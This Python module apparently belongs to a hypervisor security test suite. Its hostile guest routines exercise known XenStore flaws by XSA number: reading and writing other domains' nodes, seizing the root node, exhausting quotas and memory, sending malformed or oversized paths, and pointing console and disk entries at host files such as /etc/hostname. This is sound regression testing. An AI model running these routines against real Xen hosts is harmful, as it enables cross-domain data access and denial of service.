"""Attacks on XenStore: others' nodes, others' changes, its memory, and its parser."""

from __future__ import annotations

import errno
import os
from typing import Any, NoReturn

from hvd.domains.guest import Guest
from hvd.domains.hostile.grants import told
from hvd.transport import messages as m
from hvd.transport.codec import pack_call
from hvd.transport.hypercalls import HypercallError
from hvd.transport.ids import DOMID_SELF, DomId
from hvd.transport.multicall import ask_all

SETTLED_S = 0.1
FILLED = "XenStore is full:"


def _tried(guest: Guest, calls: list[Any]) -> str:
    """What each came to."""
    outcome = []
    for call in calls:
        try:
            outcome.append(f"{type(call).__name__} {guest.runtime.hypercalls.call(call)!r}")
        except HypercallError as error:
            outcome.append(f"{type(call).__name__} {errno.errorcode.get(error.errno, error.errno)}")
    return ", ".join(outcome)


def reach_another(guest: Guest, dom: str) -> str:
    """Read, write, list, give away and remove what is another's."""
    node = f"/local/domain/{dom}/data/secret"
    return _tried(guest, [
        m.StoreRead(0, node), m.StoreGetPerms(0, node), m.StoreWrite(0, node, b"attacked"),
        m.StoreReadAll(f"/local/domain/{dom}/data"), m.StoreWrite(0, f"/local/domain/{dom}/data/planted", b"1"),
        m.StoreSetPerms(0, node, [f"n{guest.domid}"]), m.StoreRm(0, f"/local/domain/{dom}/data/planted"),
    ])  # fmt: skip


def reach_root(guest: Guest) -> str:
    """XSA-353: the root node is as guarded as any other."""
    return _tried(guest, [
        m.StoreSetPerms(0, "/", [f"b{guest.domid}"]), m.StoreWrite(0, "/planted", b"1"), m.StoreRm(0, "/local"),
        m.StoreRm(0, "/local/domain"), m.StoreMkdir(0, "/tool/planted"),
    ])  # fmt: skip


def listen(guest: Guest, path: str) -> str:
    """XSA-115: the names of nodes that change, from a watch above them."""
    heard: list[str] = []
    guest.runtime.store.watch(path, heard.append)
    guest.runtime.store.write("data/listening", "1")
    told(guest, "go")
    while guest.runtime.wait(SETTLED_S):
        pass  # what was fired before may still be on its way
    return f"heard of {' '.join(heard)}"


def give_away(guest: Guest, dom: str) -> str:
    """XSA-352: nodes that another's quota is to bear."""
    guest.runtime.store.write("data/gift", "1")
    return _tried(guest, [m.StoreSetPerms(0, "data/gift", [f"n{dom}"])])


def fill(guest: Guest) -> NoReturn:
    """XSA-326: everything that a domain may have, at once: nodes, watches, transactions and what they touch."""
    call, made = guest.runtime.hypercalls.call, {"nodes": 0, "watches": 0, "transactions": 0, "touched": 0}

    def until_refused(name: str, make: Any) -> None:
        try:
            while True:
                call(make(made[name]))
                made[name] += 1
        except HypercallError as error:
            assert error.errno in (errno.ENOSPC, errno.ENOMEM, errno.E2BIG), error

    value = b"x" * 1900
    until_refused("nodes", lambda number: m.StoreWrite(0, f"data/fill/{number // 100}/{number}", value))
    until_refused("watches", lambda number: m.StoreWatch(f"/local/domain/{guest.domid}/data/{number}", "t" * 1000))
    transactions = []
    try:
        while True:
            transactions.append(call(m.StoreTransactionStart()))
    except HypercallError as error:
        assert error.errno == errno.ENOSPC, error
    made["transactions"] = len(transactions)
    for tx in transactions:
        try:
            for number in range(2000):
                call(m.StoreWrite(tx, f"data/tx/{number // 100}/{number}", value))
                made["touched"] += 1
        except HypercallError as error:
            assert error.errno in (errno.ENOSPC, errno.ENOMEM), error
    guest.log(f"{FILLED} {made}")  # there is no room for a node
    while True:
        guest.wait()


def send_oversize(guest: Guest) -> str:
    """XSA-324, XSA-323, XSA-481, XSA-418: tags, paths and values too long, malformed and too deep."""
    deep = "a/" * 1400 + "a"
    return _tried(guest, [
        m.StoreWatch("data", "t" * 1022), m.StoreWrite(0, "data/long", b"x" * 4096),
        m.StoreWrite(0, "data/" + "p" * 3000, b"1"), m.StoreWrite(0, deep, b"1"), m.StoreMkdir(0, "data//double"),
        m.StoreMkdir(0, "data/"), m.StoreMkdir(0, "/"), m.StoreMkdir(0, ""), m.StoreMkdir(0, "data/../../x"),
        m.StoreMkdir(0, "@releaseDomain"), m.StoreWatch("@nothing", "t"), m.StoreRead(2**32 - 1, "data"),
        m.StoreTransactionEnd(99, True), m.StoreSetPerms(0, "data", []), m.StoreSetPerms(0, "data", ["x1"]),
        m.StoreSetPerms(0, "data", [f"n{guest.domid}"] * 64),
        m.Multicall([pack_call(m.StoreMkdir(0, "data/m"))] * 64), m.Multicall([pack_call(m.EvtchnReset(DOMID_SELF))]),
        m.Multicall([b"\xc1"]),
    ])  # fmt: skip


def rewrite(guest: Guest, count: str) -> str:
    """XSA-349: a node that somebody watches, as often as can be."""
    told(guest, "go")
    for number in range(0, int(count), 64):
        calls = [m.StoreWrite(0, f"data/rewritten/{(number + n) % 8}", b"1") for n in range(64)]
        ask_all(guest.runtime.hypercalls.call, calls)
    return f"wrote {count} times"


def take_medium(guest: Guest, dom: str) -> str:
    """XSA-175, XSA-178: the file behind a disk, of a domain of which we are no backend, whatever our nodes say."""
    for owner in (int(dom), guest.domid):
        guest.runtime.store.write(f"backend/vbd/{owner}/51712/params", "/etc/hostname")
        guest.runtime.store.write(f"backend/vbd/{owner}/51712/frontend", f"/local/domain/{owner}/device/vbd/51712")
    outcome = []
    for owner in (int(dom), guest.domid):
        try:
            descriptor = guest.runtime.open_medium(DomId(owner), "vbd", 51712)
            with open(descriptor, encoding="utf-8") as medium:
                outcome.append(f"read {medium.read(64)}")
        except HypercallError as error:
            outcome.append(error.text)
    return "; ".join(outcome)


def forge_console(guest: Guest, terminal: str) -> str:
    """XSA-57: what the toolstack reads of a domain, where its console ends above all, as the domain would have it."""
    home = f"/local/domain/{guest.domid}"
    return _tried(guest, [
        m.StoreWrite(0, f"{home}/console/tty", terminal.encode()), m.StoreRm(0, f"{home}/console/port"),
        m.StoreWrite(0, f"{home}/console/port", b"1"), m.StoreWrite(0, f"{home}/console/limit", b"999999999"),
        m.StoreWrite(0, f"{home}/console/output", b"file:/etc/planted"), m.StoreWrite(0, f"{home}/domid", b"0"),
        m.StoreSetPerms(0, f"{home}/console", [f"n{guest.domid}"]), m.StoreRm(0, f"{home}/console"),
        m.StoreWrite(0, f"{home}/name", b"Domain-0"), m.StoreWrite(0, f"{home}/memory/target", b"1"),
        m.StoreSetPerms(0, home, [f"n{guest.domid}"]), m.StoreWrite(0, f"{home}/vm", b"/vm/planted"),
    ])  # fmt: skip


def leave_nodes(guest: Guest, host: str, count: str, dies: str) -> NoReturn:
    """XSA-419: all the nodes that we may have, where somebody lets us make them; and die, or (the control) live on."""
    made, home = 0, f"/local/domain/{host}/data/open"
    guest.runtime.store.write("data/made", "none")  # later there is no room for it
    for number in range(int(count)):
        try:
            guest.runtime.hypercalls.call(m.StoreMkdir(0, f"{home}/{guest.domid}-{number // 100}/{number}"))
            made += 1
        except HypercallError as error:
            assert error.errno == errno.ENOSPC, error
            break
    guest.runtime.store.write("data/made", str(made))
    told(guest, "go")
    if int(dies):
        os._exit(1)
    while True:
        guest.wait()


def let_all_in(guest: Guest) -> str:
    """A directory of ours that everybody may write in."""
    guest.runtime.store.write("data/open", "")
    guest.runtime.hypercalls.call(m.StoreSetPerms(0, "data/open", [f"b{guest.domid}"]))
    return "let everybody in"


def print_without_end(guest: Guest, size: str) -> str:
    """XSA-180: a console's log is a file of the host's."""
    line = "x" * 1000 + "\n"
    for _ in range(int(size) // len(line)):
        guest.write_console(line)
        guest.runtime.wait(0)
    return f"printed {int(size):,} bytes"


def dodge_quota(guest: Guest, most: str) -> str:
    """XSA-440, XSA-483: more nodes than it may have, past permissions, transactions and removals."""
    call, me = guest.runtime.hypercalls.call, guest.domid
    made = 0
    for number in range(int(most)):
        path = f"data/many/{number // 100}/{number}"
        try:
            call(m.StoreMkdir(0, path))
            made += 1
        except HypercallError as error:
            assert error.errno == errno.ENOSPC, error
        if number % 10 == 0:
            _tried(guest, [m.StoreSetPerms(0, path, [f"n{me}", "r0"]), m.StoreSetPerms(0, path, [f"n{me}"])])
        if number % 50 == 0:
            _remove_and_give_up(guest, number)
    _tried(guest, [m.StoreRm(0, "data/many/0/0")])  # room to say so
    return f"{made} of {most} calls made a node"


def _remove_and_give_up(guest: Guest, number: int) -> None:
    """What a transaction that is given up removed is there, and counts; what one made and removed does not.

    Of what a third has made below a node that is gone when it ends (XSA-440) nothing is there, and nothing counts.
    """
    call, hundred = guest.runtime.hypercalls.call, f"data/many/{number // 100}"
    first, second, third = (call(m.StoreTransactionStart()) for _ in range(3))
    _tried(guest, [m.StoreMkdir(0, "data/base"), *(m.StoreMkdir(third, f"data/base/{n}") for n in range(5)),
                   m.StoreRm(third, "data/base/0"), m.StoreRm(0, "data/base"),
                   m.StoreTransactionEnd(third, True)])  # fmt: skip
    _tried(guest, [m.StoreRm(first, hundred), m.StoreRm(first, "data/many"), m.StoreTransactionEnd(first, False),
                   m.StoreMkdir(second, "data/once"), m.StoreRm(second, "data/once"), m.StoreRm(second, "data/once"),
                   m.StoreTransactionEnd(second, True)])  # fmt: skip


def break_transactions(guest: Guest) -> None:
    """XSA-414, XSA-415: creations that fail half-way, parents removed in open transactions; die in one."""
    call = guest.runtime.hypercalls.call
    for number in range(30):
        transactions = [call(m.StoreTransactionStart()) for _ in range(3)]
        first, second, third = transactions
        _tried(guest, [
            m.StoreMkdir(first, f"data/a/{number}/b/c"), m.StoreRm(0, "data/a"),
            m.StoreMkdir(first, "/local/domain/0/x/y/z"), m.StoreWrite(second, "data/a/" + "d/" * 800, b"1"),
            m.StoreWrite(second, f"data/a/{number}/b", b"1"), m.StoreRm(second, "data"),
            m.StoreMkdir(third, "data/a/e"), m.StoreSetPerms(third, "data/a/e", ["n0"]),
            m.StoreTransactionEnd(first, True), m.StoreRm(third, "data/a"),
            m.StoreTransactionEnd(second, number % 2 == 0), m.StoreTransactionEnd(second, True),
            m.StoreTransactionEnd(third, True), m.StoreMkdir(third, "data/f"),
        ])  # fmt: skip
    tx = call(m.StoreTransactionStart())
    _tried(guest, [m.StoreMkdir(tx, "data/left/behind"), m.StoreWatch("data", "t"), m.StoreRm(tx, "data")])
    os._exit(1)
